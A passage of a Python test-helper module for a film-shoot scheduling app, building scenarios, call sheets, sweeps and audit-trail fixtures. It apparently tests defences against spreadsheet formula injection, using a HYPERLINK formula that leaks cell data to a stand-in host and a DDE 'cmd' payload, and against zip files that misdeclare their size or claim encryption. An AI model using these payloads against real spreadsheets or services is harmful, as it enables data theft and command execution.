        return draw(st.none() | offsets.map(lambda offset: first + timedelta(days=offset)))

    by_id = {title.title_id: title for title in titles}
    pinned = draw(st.lists(st.sampled_from(title_ids), max_size=2, unique=True))
    pins = tuple(
        Pin(
            title_id,
            pin_start(by_id[title_id]),
            draw(st.none() | st.sampled_from(base_ids)),
            draw(st.none() | st.sampled_from(crew_ids)),
        )
        for title_id in pinned
    )

    return Scenario(
        name=draw(_names),
        start_date=start,
        days=days,
        bases=bases,
        sets=sets,
        crews=crews,
        actors=actors,
        titles=tuple(titles),
        unavailable=tuple(outages),
        travel=travel,
        pins=pins,
        targets=Targets(draw(st.integers(1, 40)), draw(st.integers(1, 800))),
        settings_extra=draw(st.just({}) | st.builds(lambda note: {"备注": note}, _names)),
    )


def scenario_frames(scenario: Scenario) -> dict[str, pd.DataFrame]:
    """Sheets as DataFrames with typed columns, as an editor would hold them."""
    frames: dict[str, pd.DataFrame] = {}
    for name, table in scenario_to_tables(scenario).tables.items():
        frame = pd.DataFrame(table.rows, columns=table.columns)
        for column in ("day_rate", "priority", "days", "max_crews", "max_days_in_row"):
            if column in frame:
                frame[column] = pd.to_numeric(frame[column].replace("", None))  # blank -> NaN
        for column in ("earliest_start", "due_date", "from_date", "to_date"):
            if column in frame:
                frame[column] = pd.to_datetime(frame[column])
        frames[name] = frame
    return frames


def days_of(plan: Plan, title_id: str) -> list[int]:
    """The day numbers (day 0 is 12-01) of a title's shoots, in the plan's order."""
    return [(shoot.date - START).days for shoot in plan.shoots_of(title_id)]


def priority_of(scenario: Scenario, plan: Plan) -> int:
    """The sum of the priorities of the titles ``plan`` schedules."""
    return sum(scenario.title_by_id[t].priority for t in plan.scheduled_title_ids)


# -- rush titles (插单) ------------------------------------------------------------------

RUSH_HEADER = (
    "title_id",
    "name",
    "genre",
    "priority",
    "earliest_start",
    "due_date",
    "cast",
    "needs",
)
"""The columns of TITLE.csv: titles.csv's plus needs."""


def rush_row(**cells: str) -> dict[str, str]:
    """A TITLE.csv row of a valid tutorial rush title (R1, 都市, priority 3, 12-01…12-07,
    cast A4, one 办公室 day), with ``cells`` changed."""
    row = {
        "title_id": "R1",
        "name": "急单：总裁的替身",
        "genre": "都市",
        "priority": "3",
        "earliest_start": "2026-12-01",
        "due_date": "2026-12-07",
        "cast": "A4",
        "needs": "办公室:1",
    }
    row.update(cells)
    return row


def write_rush_title(
    path: Path, *rows: dict[str, str], header: Sequence[str] = RUSH_HEADER
) -> Path:
    """Write ``rows`` under ``header`` as a TITLE.csv at ``path``; return the path."""
    lines = [",".join(header)]
    lines.extend(",".join(row.get(column, "") for column in header) for row in rows)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def zip_bytes(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip holding ``files`` (name → content), compressed with ``method``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def lying_zip(name: str, content: bytes, declared: int) -> bytes:
    """A zip whose one entry holds ``content`` but declares ``declared`` bytes unpacked."""
    data = bytearray(zip_bytes({name: content}))
    local = data.index(b"PK\x03\x04")
    struct.pack_into("<I", data, local + 22, declared)
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, declared)
    return bytes(data)


def flag_zip(name: str, content: bytes, *, flag_bits: int = 0, method: int | None = None) -> bytes:
    """A zip whose one entry is marked encrypted (flag bit 0) or compressed by ``method``."""
    data = bytearray(zip_bytes({name: content}))
    for signature, flags_at, method_at in ((b"PK\x03\x04", 6, 8), (b"PK\x01\x02", 8, 10)):
        at = data.index(signature)
        struct.pack_into("<H", data, at + flags_at, flag_bits)
        if method is not None:
            struct.pack_into("<H", data, at + method_at, method)
    return bytes(data)


FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-x",
    "@x",
    "'引号开头",
)
"""Names a spreadsheet would run as formulas, and one beginning with ``'`` (the quote itself)."""


def formula_scenario() -> Scenario:
    """:func:`tiny_scenario` with every kind of text cell spelled like a formula.

    The four titles, two bases, two crews and an actor take the names of
    :data:`FORMULA_NAMES` (in turn); the scenario name, a title's ``platform``
    cell, an extra column's name (``@列``), the unavailability note and an extra
    setting (key and value) begin with ``=``, ``+``, ``-`` or ``@`` too.
    """
    base = tiny_scenario()
    names = iter(FORMULA_NAMES * 2)
    titles = tuple(
        replace(t, name=next(names), extra={"platform": f"={t.title_id}", "@列": "-1"})
        for t in base.titles
    )
    bases = tuple(replace(b, name=next(names)) for b in base.bases)
    crews = tuple(replace(c, name=next(names)) for c in base.crews)
    actors = (replace(base.actors[0], name=next(names)), *base.actors[1:])
    unavailable = tuple(replace(u, note="+请假") for u in base.unavailable)
    return replace(
        base,
        name="=场景名",
        titles=titles,
        bases=bases,
        crews=crews,
        actors=actors,
        unavailable=unavailable,
        settings_extra={"-备注": "=1+1", "版本": 3},
    )


def dead_pid() -> int:
    """The pid of a process that has just ended (and been reaped): no process has it now."""
    import subprocess
    import sys

    process = subprocess.Popen([sys.executable, "-c", "pass"])
    process.wait()
    return process.pid


# -- scene breakdowns (rule 10) ------------------------------------------------


def scene_scenario(**changes: Any) -> Scenario:
    """Two titles with scene breakdowns at one base in 郑州, sharing the supporting actor A09.

    - B01 郑州影视基地: S01 办公室, S02 医院, S03 办公室, S04 医院; crews C01, C03.
    - T01 (都市): scenes 1 办公室 600 min [A01], 2 办公室 500 min [A01, A09], 3 医院 300 min
      [A01] → packed 办公室 600 | 办公室 500 | 医院 300: needs 办公室 ×2 + 医院 ×1.
    - T03 (甜宠): scenes 1 办公室 400 min [A03, A09], 2 医院 500 min [A03] → 办公室 ×1 + 医院 ×1.
    - 10 days from 12-01, day_minutes 720.
    """
    t01 = (
        Scene("T01", "1", "办公室", 600, ("A01",), "日", "内", "顾总在会议室宣布撤资"),
        Scene("T01", "2", "办公室", 500, ("A01", "A09"), "夜", "内", "秘书深夜送来辞职信"),
        Scene("T01", "3", "医院", 300, ("A01",), "日", "内", "病房里两人和解"),
    )
    t03 = (
        Scene("T03", "1", "办公室", 400, ("A03", "A09"), "日", "内", "面试当天撞见前任"),
        Scene("T03", "2", "医院", 500, ("A03",), "夜", "外", "医院门口大雨告白"),
    )
    base = Scenario(
        name="场次测试",
        start_date=dec(1),
        days=10,
        bases=(Base("B01", "郑州影视基地", "郑州"),),
        sets=(
            FilmSet("S01", "B01", "办公室", 800),
            FilmSet("S02", "B01", "医院", 1200),
            FilmSet("S03", "B01", "办公室", 800),
            FilmSet("S04", "B01", "医院", 1200),
        ),
        crews=(Crew("C01", "张导组", "B01", 6000), Crew("C03", "王导组", "B01", 5500)),
        actors=(
            Actor("A01", "刘思雨", 3000),
            Actor("A03", "赵欣怡", 2000),
            Actor("A09", "周小北", 800),
        ),
        titles=(
            Title("T01", "霸道总裁的契约新娘", "都市", 3, dec(1), dec(10),
                  (Need("办公室", 2), Need("医院", 1)), cast=("A01",), scenes=t01),
            Title("T03", "闪婚后大佬宠我上天", "甜宠", 1, dec(1), dec(10),
                  (Need("办公室", 1), Need("医院", 1)), cast=("A03",), scenes=t03),
        ),
    )  # fmt: skip
    return replace(base, **changes)


def scene_run(
    title_id: str,
    first_day: int,
    set_ids: Sequence[str],
    crew_id: str,
    scenes: Sequence[Sequence[str]],
    base_id: str = "B01",
) -> list[Shoot]:
    """Shoots of one title with scenes on consecutive days from 12-``first_day``."""
    return [
        Shoot(title_id, dec(first_day + i), base_id, set_id, crew_id, tuple(day_scenes))
        for i, (set_id, day_scenes) in enumerate(zip(set_ids, scenes, strict=True))
    ]


# -- call sheets and Day-out-of-Days (issue 15: 通告单, 演员日程表) -------------------------


def breakdown_title(
    title_id: str,
    name: str,
    genre: str,
    scenes: Sequence[Scene],
    *,
    cast: Sequence[str] = (),
    first: int = 0,
    last: int = 9,
) -> Title:
    """A title shot from ``scenes``: its needs are the scenes packed into 720-minute days."""
    from scheduler.domain.scenes import DEFAULT_DAY_MINUTES, days_by_set_type, pack_scene_days

    packed = days_by_set_type(pack_scene_days(scenes, DEFAULT_DAY_MINUTES))
    needs = tuple(Need(set_type, days) for set_type, days in packed.items())
    return Title(
        title_id, name, genre, 1, day(first), day(last), needs, tuple(cast), scenes=tuple(scenes)
    )


def call_sheet_scenario() -> tuple[Scenario, Plan]:
    """Two crews on 12-02 (C01 in 郑州, C02 in 开封), for call sheets; 8 days from 12-01.

    - B01 郑州影视基地 has an ``address`` (extra column), B02 开封清明上河园基地 has none.
    - T01 《总裁的契约新娘》 (都市), crew C01 at B01: 12-02 S01 scenes 2, 1, 3 (not in file
      order); 12-03 S01 scenes 5, 4; 12-04 S02 (别墅) scenes 6, 7. Packed: 办公室 [4 1 3] [5 2],
      别墅 [6 7] — 3 days. A01 works 12-02 and 12-04 and is held on 12-03; A04 only 12-02.
    - T02 《穿越之凤鸣九天》 (古装: 90 minutes of make-up), crew C02 at B02: 12-02 scenes 1, 2;
      12-03 scene 3. Packed: 古装宫殿 [3 2] [1] — 2 days.
    - T03 《闪婚后傅少宠上天》 (甜宠, no scenes, cast A06), crew C01 at B01 on 12-06 … 12-07:
      C01 rests on 12-05.

    Times on 12-02 with the defaults (first shot 08:00, reset 10, meal 60): C01 scene 2
    08:00–10:00, 1 10:10–14:10, meal 14:10–15:10, 3 15:10–18:10; C02 scene 1 08:00–14:40,
    meal 14:40–15:40, 2 15:40–19:00.
    """
    t01 = (
        Scene("T01", "1", "办公室", 240, ("A01", "A02"), "日", "内", "总裁办公室：女主递交辞职信"),
        Scene("T01", "2", "办公室", 120, ("A01", "A04"), "日", "内", "王总来访，撞见两人争吵"),
        Scene("T01", "3", "办公室", 180, ("A02",), "夜", "内", "男主独自加班"),
        Scene("T01", "4", "办公室", 300, ("A03",), "日", "内", "闺蜜在茶水间八卦"),
        Scene("T01", "5", "办公室", 200, ("A02", "A03"), "日", "内", "男主向闺蜜打听女主下落"),
        Scene("T01", "6", "别墅", 200, ("A01", "A02", "A03"), "日", "外", "别墅花园家宴"),
        Scene("T01", "7", "别墅", 90, ("A01",), "夜", "内", "女主收到陌生照片"),
    )
    t02 = (
        Scene("T02", "1", "古装宫殿", 400, ("A05",), "日", "内", "皇后寝宫梳妆"),
        Scene("T02", "2", "古装宫殿", 200, ("A05", "A06"), "日", "外", "御花园初遇"),
        Scene("T02", "3", "古装宫殿", 500, ("A06",), "夜", "外", "宫墙夜奔"),
    )
    scenario = Scenario(
        name="郑州开封 通告单测试",
        start_date=START,
        days=8,
        bases=(
            Base("B01", "郑州影视基地", "郑州", extra={"address": "郑州市中原区建设西路 1 号"}),
            Base("B02", "开封清明上河园基地", "开封"),
        ),
        sets=(
            FilmSet("S01", "B01", "办公室", 3000),
            FilmSet("S02", "B01", "别墅", 5000),
            FilmSet("S03", "B02", "古装宫殿", 8000),
        ),
        crews=(Crew("C01", "张导组", "B01", 12000), Crew("C02", "李导组", "B02", 10000)),
        actors=(
            Actor("A01", "林婉清", 3000),
            Actor("A02", "陈子轩", 2500),
            Actor("A03", "苏小雨", 1500),
            Actor("A04", "王总", 800),
            Actor("A05", "沈清秋", 2000),
            Actor("A06", "萧景琰", 2200),
        ),
        titles=(
            breakdown_title("T01", "总裁的契约新娘", "都市", t01, cast=("A01", "A02")),
            breakdown_title("T02", "穿越之凤鸣九天", "古装", t02, cast=("A05",)),
            replace(
                small_title("T03", needs=(("办公室", 2),), cast=("A06",), genre="甜宠"),
                name="闪婚后傅少宠上天",
            ),
        ),
    )
    plan = Plan(
        (
            Shoot("T01", day(1), "B01", "S01", "C01", ("2", "1", "3")),
            Shoot("T01", day(2), "B01", "S01", "C01", ("5", "4")),
            Shoot("T01", day(3), "B01", "S02", "C01", ("6", "7")),
            Shoot("T02", day(1), "B02", "S03", "C02", ("1", "2")),
            Shoot("T02", day(2), "B02", "S03", "C02", ("3",)),
            Shoot("T03", day(5), "B01", "S01", "C01"),
            Shoot("T03", day(6), "B01", "S01", "C01"),
        )
    )
    return scenario, plan


def dood_scenario() -> tuple[Scenario, Plan]:
    """Five actors over 8 days from 12-01, for the Day-out-of-Days; every scene is 400 minutes,
    so each fills a shoot day of its own.

    - T1 (scenes, B1 郑州, C1, days 0–3): scenes s1 [A1 A3], s2 [A2 A3], s3 [A1 A3], s4 [A3]
      → A1 SW H WF ·, A2 · SWF · ·, A3 SW W W WF.
    - T2 (no scenes, cast A4 A5, B1, C2, days 1–2) → W W.
    - T4 (no scenes, cast A4, B1, C1, day 4): A4 again in 郑州 — no travel.
    - T3 (scenes, B2 开封, C2, day 6): s1 [A3 A5]; 郑州 → 开封 takes 2 days: A3 and A5
      travel on days 4 and 5 (A5 is free from day 3, but travels only 2 days).
    - Day rates: A1 1,000 (held 1 day: hold cost 1,000), A2 800, A3 1,200, A4 500, A5 600.
    """
    t1 = tuple(
        Scene("T1", f"s{n}", "办公室", 400, cast)
        for n, cast in enumerate((("A1", "A3"), ("A2", "A3"), ("A1", "A3"), ("A3",)), 1)
    )
    t3 = (Scene("T3", "s1", "办公室", 400, ("A3", "A5")),)
    scenario = small_scenario(
        [
            breakdown_title("T1", "剧目T1", "都市", t1),
            small_title("T2", needs=(("办公室", 2),), cast=("A4", "A5")),
            breakdown_title("T3", "剧目T3", "都市", t3),
            small_title("T4", cast=("A4",)),
        ],
        days=8,
        bases=(Base("B1", "金水基地", "郑州"), Base("B2", "宋城基地", "开封")),
        sets=(
            FilmSet("S1", "B1", "办公室", 1000),
            FilmSet("S2", "B1", "办公室", 1000),
            FilmSet("S3", "B2", "办公室", 1000),
        ),
        crews=(small_crew("C1"), small_crew("C2")),
        actors=(
            Actor("A1", "演员1", 1000),
            Actor("A2", "演员2", 800),
            Actor("A3", "演员3", 1200),
            Actor("A4", "演员4", 500),
            Actor("A5", "演员5", 600),
        ),
        travel=(Travel("郑州", "开封", 2),),
    )
    plan = Plan(
        (
            *(Shoot("T1", day(n), "B1", "S1", "C1", (f"s{n + 1}",)) for n in range(4)),
            Shoot("T2", day(1), "B1", "S2", "C2"),
            Shoot("T2", day(2), "B1", "S2", "C2"),
            Shoot("T4", day(4), "B1", "S1", "C1"),
            Shoot("T3", day(6), "B2", "S3", "C2", ("s1",)),
        )
    )
    return scenario, plan


# -- databases of older revisions ----------------------------------------------


def insert_old_scenario_and_plan(connection: Any) -> tuple[int, int]:
    """Rows an older ShootPlan stored, written with SQL (today's store writes newer columns):
    scenario 旧场景 with title T1 (one 办公室 day, 12-01…12-05) and plan 旧方案 shooting it
    on 12-02 at B1/S1 with C1. Valid from revision 0001 on. Returns (scenario id, plan id)."""
    from sqlalchemy import text

    connection.execute(
        text(
            "INSERT INTO scenario (name, start_date, days, parallel_shoots_per_day, "
            "titles_per_month, settings_extra, version, created_at, updated_at) VALUES "
            "('旧场景', '2026-12-01', 10, 20, 400, '{}', 1, "
            "'2026-12-01 08:00:00+00:00', '2026-12-01 08:00:00+00:00')"
        )
    )
    scenario_id = int(connection.execute(text("SELECT max(id) FROM scenario")).scalar_one())
    connection.execute(
        text(
            "INSERT INTO title (scenario_id, title_id, position, name, genre, priority, "
            "earliest_start, due_date, \"cast\", extra) VALUES (:s, 'T1', 0, '旧剧', "
            "'都市', 1, '2026-12-01', '2026-12-05', '[]', '{}')"
        ),
        {"s": scenario_id},
    )
    connection.execute(
        text(
            "INSERT INTO title_need (scenario_id, position, title_id, set_type, days, "
            "extra) VALUES (:s, 0, 'T1', '办公室', 1, '{}')"
        ),
        {"s": scenario_id},
    )
    connection.execute(
        text(
            "INSERT INTO plan (scenario_id, scenario_version, created_at, label, "
            "status, kpis) VALUES (:s, 1, '2026-12-01 08:00:00+00:00', '旧方案', "
            "'optimal', '{}')"
        ),
        {"s": scenario_id},
    )
    plan_id = int(connection.execute(text("SELECT max(id) FROM plan")).scalar_one())
    connection.execute(
        text(
            "INSERT INTO plan_shoot (plan_id, title_id, date, position, base_id, "
            "set_id, crew_id) VALUES (:p, 'T1', '2026-12-02', 0, 'B1', 'S1', 'C1')"
        ),
        {"p": plan_id},
    )
    return scenario_id, plan_id


def sweep_kpis(
    variant: str,
    seed: int,
    *,
    reference: bool = False,
    sweep: str = "测试扫描",
    sweep_id: int = 1,
    **kpis: Any,
) -> dict[str, Any]:
    """KPIs of one sweep run as the Ray runner stores them: ``kpis`` plus ``kpis["sweep"]``."""
    entry = {
        "sweep_id": sweep_id,
        "sweep": sweep,
        "variant": variant,
        "seed": seed,
        "reference": reference,
    }
    return {**kpis, "sweep": entry}


def pooling_scenario(**changes: Any) -> Scenario:
    """Three cities, two crews, 10 days from 12-01: what pooling (rule 11) is worth.

    - B1 金水基地 (郑州) S1 办公室; B2 清明基地 (开封) S2 办公室; B3 龙门基地 (洛阳) S3 办公室;
    - C1 张导组 at B1 (郑州), C2 李导组 at B2 (开封); 洛阳 has no crew;
    - A1 刘思雨 lives in 郑州, A2 陈浩然 in 洛阳, A3 赵欣怡 anywhere (no home city);
    - T1 (priority 3, cast A1), T2 (2, cast A2), T3 (1, cast A3), T4 (1, no cast):
      2 办公室 days each, 12-01 … 12-10.

    Every city pooled (``pooling=()``) by default. With each city alone T2 cannot
    shoot: its actor may work only in 洛阳, where no crew lives. ``changes``
    replace fields of the scenario.
    """
    base = small_scenario(
        [
            small_title("T1", 3, 0, 9, (("办公室", 2),), cast=("A1",)),
            small_title("T2", 2, 0, 9, (("办公室", 2),), cast=("A2",)),
            small_title("T3", 1, 0, 9, (("办公室", 2),), cast=("A3",)),
            small_title("T4", 1, 0, 9, (("办公室", 2),)),
        ],
        name="豫中三城 协同测试",
        days=10,
        bases=(
            Base("B1", "金水基地", "郑州"),
            Base("B2", "清明基地", "开封"),
            Base("B3", "龙门基地", "洛阳"),
        ),
        sets=(
            FilmSet("S1", "B1", "办公室", 1000),
            FilmSet("S2", "B2", "办公室", 1000),
            FilmSet("S3", "B3", "办公室", 1000),
        ),
        crews=(
            small_crew("C1", home_base_id="B1", day_rate=6000),
            small_crew("C2", home_base_id="B2", day_rate=6000),
        ),
        actors=(
            Actor("A1", "刘思雨", 3000, home_city="郑州"),
            Actor("A2", "陈浩然", 2500, home_city="洛阳"),
            Actor("A3", "赵欣怡", 2000),
        ),
        targets=Targets(parallel_shoots_per_day=3, titles_per_month=12),
    )
    return replace(base, **changes)


# -- sweeps (issue 16: what-if 批量方案) ------------------------------------------------------

SWEEPS = SAMPLES / "sweeps"
"""The committed sample sweep files (month-whatifs.toml, tutorial-quick.toml)."""


def sweep_of(*variants: Variant, **fields: Any) -> Sweep:
    """Sweep 测试扫描 of ``../tutorial`` with ``variants`` (default: 现状 alone), seeds 0, 1, 2.

    ``fields`` set the other fields of the sweep (seeds, time_limit, reference, revise …).
    """
    return Sweep(
        name=fields.pop("name", "测试扫描"),
        scenario=fields.pop("scenario", "../tutorial"),
        variants=variants or (Variant("现状"),),
        **fields,
    )


def write_sweep_file(folder: Path, text: str, name: str = "sweep.toml") -> Path:
    """``text`` (a sweep file, dedented) written as ``folder/name`` in UTF-8."""
    import textwrap

    path = folder / name
    path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
    return path


def two_base_scenario(**changes: Any) -> Scenario:
    """Two bases of one city, each with one 办公室 set and its own crew, three titles, 5 days.

    B1 (S1, crew C1) and B2 (S2, crew C2) in 郑州; T1 needs 2 办公室 days, T2 and T3
    one each, all free to shoot on days 0 … 4. ``changes`` replace fields (a closure,
    fewer crews, more titles). :func:`two_base_plan` is a valid plan of it.
    """
    scenario = small_scenario(
        (
            small_title("T1", 3, needs=(("办公室", 2),), last=4),
            small_title("T2", 2, last=4),
            small_title("T3", 1, last=4),
        ),
        days=5,
        bases=(Base("B1", "金水基地", "郑州"), Base("B2", "惠济基地", "郑州")),
        sets=(FilmSet("S1", "B1", "办公室", 1000), FilmSet("S2", "B2", "办公室", 1000)),
        crews=(small_crew("C1", home_base_id="B1"), small_crew("C2", home_base_id="B2")),
    )
    return replace(scenario, **changes)


def two_base_plan() -> Plan:
    """A valid plan of :func:`two_base_scenario`: T1 at B2 by C2 on 12-01 … 12-02,
    T2 then T3 at B1 by C1 on 12-01 and 12-02."""
    return shoot_plan(
        shoot_run("T1", 1, "B2", ["S2", "S2"], "C2"),
        shoot_run("T2", 1, "B1", ["S1"], "C1"),
        shoot_run("T3", 2, "B1", ["S1"], "C1"),
    )


def actor_days_scenario(**changes: Any) -> Scenario:
    """Six days (12-01 Tue … 12-06 Sun, one calendar week) at B1 金水基地: two 医院 sets
    S1, S2, crews C1, C2, actors A1 演员1 and A2 演员2 (day rate 1000) — what buying an
    actor's days off is worth.

    - T1, T2 (priority 1): 2 医院 days each, cast A1; T3 (priority 1): 1 医院 day, cast A2;
      all may shoot 12-01 … 12-06;
    - A1 is away 12-03 … 12-06 (4 days, 外地宣传), A2 on 12-06 (1 day, 综艺录制).

    A1 is free 2 days, enough for T1 or T2, not both: at most 2 titles (T3 and one of
    them). Bought back, 2 of A1's days off let the other shoot too. ``changes`` replace
    fields of the scenario.
    """
    scenario = small_scenario(
        (
            small_title("T1", 1, 0, 5, (("医院", 2),), cast=("A1",)),
            small_title("T2", 1, 0, 5, (("医院", 2),), cast=("A1",)),
            small_title("T3", 1, 0, 5, (("医院", 1),), cast=("A2",)),
        ),
        name="买断档期测试",
        days=6,
        bases=(Base("B1", "金水基地", "郑州"),),
        sets=numbered_sets(["医院", "医院"]),
        crews=(small_crew("C1"), small_crew("C2")),
        actors=numbered_actors(2),
        unavailable=(
            outage("actor", "A1", 2, 5, "外地宣传"),
            outage("actor", "A2", 5, None, "综艺录制"),
        ),
        targets=Targets(parallel_shoots_per_day=1, titles_per_month=10),
    )
    return replace(scenario, **changes)


def two_idle_scenario() -> Scenario:
    """Six days (12-01 … 12-06, one calendar week), bases B1 金水基地 and B2 惠济基地 (郑州)
    with one 医院 set each (S1, S2), crews C1, C2, no actors: the two idle figures.

    T1 needs 1 医院 day, T2 and T3 5 each (priority 1), all on 12-01 … 12-06: 11 of the
    12 set-days. :func:`two_idle_plan` is a valid plan that leaves T3 out.
    """
    return small_scenario(
        (
            small_title("T1", 1, 0, 5, (("医院", 1),)),
            small_title("T2", 1, 0, 5, (("医院", 5),)),
            small_title("T3", 1, 0, 5, (("医院", 5),)),
        ),
        name="闲置两种口径",
        days=6,
        bases=(Base("B1", "金水基地", "郑州"), Base("B2", "惠济基地", "郑州")),
        sets=(FilmSet("S1", "B1", "医院", 1000), FilmSet("S2", "B2", "医院", 1000)),
        crews=(small_crew("C1"), small_crew("C2")),
        targets=Targets(parallel_shoots_per_day=1, titles_per_month=10),
    )


def two_idle_plan() -> Plan:
    """A valid plan of :func:`two_idle_scenario` that books only B1: T2 on S1 by C1
    12-01 … 12-05, T1 on S1 by C2 on 12-06; T3 left out."""
    return shoot_plan(
        shoot_run("T2", 1, "B1", ["S1"] * 5, "C1"),
        shoot_run("T1", 6, "B1", ["S1"], "C2"),
        unscheduled={"T3": "没有空闲的医院棚"},
    )


def rush_scenario() -> Scenario:
    """Three days (12-01 … 12-03) at B1 金水基地 with one 医院 set S1 (1000 a day) and
    crews C1, C2: one title T1 (1 医院 day, 12-01 … 12-03, no cast) — a rush order of
    copies of T1 fits on the two set-days T1 leaves, then needs one more 医院 set."""
    return small_scenario(
        (small_title("T1", 1, 0, 2, (("医院", 1),)),),
        name="急单测试",
        days=3,
        bases=(Base("B1", "金水基地", "郑州"),),
        sets=numbered_sets(["医院"]),
        crews=(small_crew("C1"), small_crew("C2")),
        targets=Targets(parallel_shoots_per_day=1, titles_per_month=10),
    )


def pooling_random_scenario(seed: int) -> Scenario:
    """:func:`random_scenario` (5–8 titles) in two cities, with home cities and no pins.

    Each actor lives in 郑州 or 开封 or has no home city (works anywhere); the bases
    are spread over both cities so that each city alone is a real restriction.
    """
    rng = random.Random(seed * 7919 + 1)
    made = random_scenario(seed, titles=(5, 8))
    bases = tuple(
        replace(base, city=CITIES[number % 2], name=f"{CITIES[number % 2]}{number + 1}号基地")
        for number, base in enumerate(made.bases)
    )
    travel = made.travel or (Travel(CITIES[0], CITIES[1], 1),)
    actors = tuple(replace(actor, home_city=rng.choice((*CITIES, ""))) for actor in made.actors)
    return replace(made, bases=bases, actors=actors, travel=travel, pins=())


def actor_away_scenario(seed: int) -> Scenario:
    """:func:`random_scenario` (4–8 titles) with one more actor outage: an actor of some
    title's cast (drawn, seeded) away 1–3 days from a drawn day — so that buying actor
    days always has something to buy. Without a cast anywhere, the first actor."""
    made = random_scenario(seed, (4, 8))
    rng = random.Random(seed)
    cast = sorted({a for t in made.titles for a in t.cast}) or [made.actors[0].actor_id]
    first = rng.randint(0, made.days - 1)
    last = min(made.days - 1, first + rng.randint(0, 2))
    away = Unavailability("actor", rng.choice(cast), day(first), day(last), "外地宣传")
    return replace(made, unavailable=(*made.unavailable, away))


# -- sweeps on Ray (issue 16, item 2) --------------------------------------------------------


def tutorial_whatifs(**fields: Any) -> Sweep:
    """Sweep 测试扫描 of the tutorial: 现状 (the reference), 加1个剧组 and B2停两天
    (B2 closed 12-02 … 12-03), seeds 0 and 1, 2 s and 1 CP-SAT worker a run: 6 runs.

    The tutorial proves its plans optimal in a fraction of a second, so every run
    ends well inside its limit. ``fields`` set other fields of the sweep.
    """
    from scheduler.domain.sweep import BaseClosure

    closed = BaseClosure("B2", date(2026, 12, 2), date(2026, 12, 3))
    settings: dict[str, Any] = {"seeds": (0, 1), "time_limit": 2.0, "workers": 1, **fields}
    return sweep_of(
        Variant("现状"),
        Variant("加1个剧组", crews=1),
        Variant("B2停两天", closures=(closed,)),
        **settings,
    )


def unknown_cast_scenario(scenario: Scenario) -> Scenario:
    """``scenario`` with its first title's cast naming A_GONE, an actor it does not have.

    Validation would refuse such a scenario; built directly, the solver raises
    ``KeyError: 'A_GONE'`` on it — a run that fails inside its Ray task.
    """
    first, *others = scenario.titles
    return replace(scenario, titles=(replace(first, cast=("A_GONE",)), *others))


# -- what a base manager may see (issue 17) --------------------------------------------------


def base_manager_scenario() -> tuple[Scenario, Plan]:
    """Two bases of 郑州 over 7 days from 12-01, each booked by a title and a crew of its own,
    with names found nowhere else, so a page or a file that shows one can be caught.

    - BJ 甲地影视基地 (sets SJ1 办公室, SJ2 医院): 《甲地公开剧》 TJIA7 (cast AJIA7 甲地演员)
      shot by CJIA7 甲地张导组 on SJ1, 12-01 … 12-02;
    - BY 乙地影视基地 (sets SY1 办公室, SY2 医院): 《乙地秘密剧》 TYI7 (cast AYI7 乙地秘密演员)
      shot by CYI7 乙地王导组 on SY2, 12-01 … 12-02;
    - 《未排秘密剧》 TLEFT7 is left out, with a reason.
    """
    scenario = small_scenario(
        (
            replace(
                small_title("TJIA7", 3, last=6, needs=(("办公室", 2),), cast=("AJIA7",)),
                name="甲地公开剧",
            ),
            replace(
                small_title("TYI7", 2, last=6, needs=(("医院", 2),), cast=("AYI7",)),
                name="乙地秘密剧",
            ),
            replace(small_title("TLEFT7", 1, last=6), name="未排秘密剧"),
        ),
        name="两基地 基地负责人测试",
        days=7,
        bases=(Base("BJ", "甲地影视基地", "郑州"), Base("BY", "乙地影视基地", "郑州")),
        sets=(
            FilmSet("SJ1", "BJ", "办公室", 1000),
            FilmSet("SJ2", "BJ", "医院", 1000),
            FilmSet("SY1", "BY", "办公室", 1000),
            FilmSet("SY2", "BY", "医院", 1000),
        ),
        crews=(
            Crew("CJIA7", "甲地张导组", "BJ", 10000),
            Crew("CYI7", "乙地王导组", "BY", 10000),
        ),
        actors=(Actor("AJIA7", "甲地演员", 1000), Actor("AYI7", "乙地秘密演员", 1000)),
    )
    plan = shoot_plan(
        shoot_run("TJIA7", 1, "BJ", ["SJ1", "SJ1"], "CJIA7"),
        shoot_run("TYI7", 1, "BY", ["SY2", "SY2"], "CYI7"),
        unscheduled={"TLEFT7": "没有空闲剧组 no crew free"},
    )
    return scenario, plan


# -- accounts for the 用户 Users and 审计 Audit trail pages (issue 17) ---------------------------

ACCOUNT_PASSWORD = "片场-密码-2026"
"""The password of every account :func:`stored_account` makes."""


def stored_account(
    store: ScenarioStore, name: str, role: Role = Role.HEAD, bases: Sequence[str] = ()
) -> Account:
    """An account stored with :data:`ACCOUNT_PASSWORD` (a head unless ``role`` says),
    made outside any audited action, so it leaves no audit row."""
    return create_account(store, name, role, bases, ACCOUNT_PASSWORD)


def signed_in(account: Account) -> SignedIn:
    """A session of ``account`` that logged in just now (for ``SIGNED_IN_KEY`` in AppTest)."""
    now = datetime.now(UTC)
    return SignedIn(account, since=now, last_seen=now)


def aged_session(
    account: Account, *, logged_in_ago: timedelta, unused_for: timedelta = timedelta(0)
) -> SignedIn:
    """A session of ``account`` that logged in ``logged_in_ago`` and was last used
    ``unused_for`` ago (for expiry: idle after 60 min, over after 12 h)."""
    now = datetime.now(UTC)
    return SignedIn(account, since=now - logged_in_ago, last_seen=now - unused_for)


AUDIT_DAY = date(2026, 3, 2)
"""The local (Beijing) day most rows of :func:`write_audit_trail` fall on."""


def write_audit_trail(store: ScenarioStore, scenario_id: int) -> None:
    """Four audit rows around the Beijing midnight that starts :data:`AUDIT_DAY` (16:00 UTC):

    - 03-01 23:59 Beijing: 张三 登录 login failed, "wrong password";
    - 03-02 00:00: 张三 登录 login ok;
    - 03-02 10:00: 张三 保存 save ok, on ``scenario_id`` at version 2, "=1+1" (a formula);
    - 03-02 11:00: 李四 删除 delete failed, on scenario 999 (gone), plan 7, not permitted.
    """
    from unittest import mock

    from scheduler.storage import repository

    midnight = datetime(2026, 3, 1, 16, 0, tzinfo=UTC)
    rows: list[tuple[datetime, str, Action, bool, dict[str, Any]]] = [
        (
            midnight - timedelta(minutes=1),
            "张三",
